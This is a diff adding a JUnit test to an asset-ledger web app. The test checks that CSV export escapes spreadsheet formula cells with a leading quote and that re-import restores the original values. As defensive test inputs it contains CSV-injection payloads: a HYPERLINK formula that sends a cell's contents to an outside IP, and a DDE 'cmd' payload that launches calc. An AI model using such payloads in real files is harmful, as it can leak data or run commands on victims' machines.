@@ -122,6 +122,39 @@ class AssetWebTest {
                 .containsExactly("Customer list", "Invoices");
     }
 
+    @Test
+    void formulaCellsAreExportedAsTextAndImportBackAsTyped() throws Exception {
+        // What an attacker (or a careless paste) puts in a ledger: cells a spreadsheet would run as formulas.
+        String hyperlink = "=HYPERLINK(\"http://203.0.113.9/?\"&A1,\"Click\")";
+        upload(owner, ("name,owner / department,where it is kept,form,personal data,confidentiality,integrity,"
+                + "availability,threat,vulnerability,decision,measure\n"
+                + "\"" + hyperlink.replace("\"", "\"\"") + "\",@SUM(1+1),+81-3-1234,electronic,no,1,1,1,1,1,accept,-2+3\n"
+                + "'quoted,Accounts,Cabinet,paper,no,1,1,1,1,1,accept,\n").getBytes(StandardCharsets.UTF_8));
+        List<Asset> mine = assets.findByTenant(owner.actor(), company.id());
+        assertThat(mine).extracting(Asset::name).containsExactlyInAnyOrder(hyperlink, "'quoted");
+
+        String text = new String(call(owner, get("/selfcheck/assets/csv")).getContentAsByteArray(), StandardCharsets.UTF_8);
+        var rows = org.apache.commons.csv.CSVParser.parse(text.substring(1), org.apache.commons.csv.CSVFormat.EXCEL)
+                .getRecords();
+        // Every text cell a spreadsheet would evaluate starts with a single quote (OWASP); nothing else changes.
+        List<String> cells = rows.stream().skip(1).flatMap(r -> java.util.stream.Stream.of(r.get(0), r.get(1), r.get(2),
+                r.get(14))).filter(c -> !c.isEmpty()).toList();
+        assertThat(cells).containsExactlyInAnyOrder("'" + hyperlink, "'@SUM(1+1)", "'+81-3-1234", "'-2+3",
+                "''quoted", "Accounts", "Cabinet");
+        assertThat(cells).noneMatch(c -> "=+-@\t\r".indexOf(c.charAt(0)) >= 0);
+        // Imports strip blanks, so tab- and CR-led values only come from elsewhere; they are quoted the same way.
+        assertThat(AssetCsv.cell("\tcmd|' /C calc'!A0")).isEqualTo("'\tcmd|' /C calc'!A0");
+        assertThat(AssetCsv.uncell(AssetCsv.cell("\r=1+1"))).isEqualTo("\r=1+1");
+
+        // Imported again (another company starts from the file): exactly what was typed, no quote added.
+        Tenant other = world.tenant(admin.actor(), TestWorld.unique("みどり会計事務所"));
+        Login otherOwner = world.smeUser(other, Role.TENANT_OWNER);
+        assertThat(upload(otherOwner, text.getBytes(StandardCharsets.UTF_8)).getContentAsString()).contains("2 件を取り込みました");
+        assertThat(assets.findByTenant(otherOwner.actor(), other.id()))
+                .usingRecursiveFieldByFieldElementComparatorIgnoringFields("id", "tenantId", "createdAt", "updatedAt")
+                .containsExactlyInAnyOrderElementsOf(mine);
+    }
+
     private static MockHttpServletRequestBuilder customerList(String measure) {
         return post("/selfcheck/assets").param("name", "得意先台帳").param("ownerName", "営業部")
                 .param("place", "事務所PC").param("form", "electronic").param("personalData", "yes")
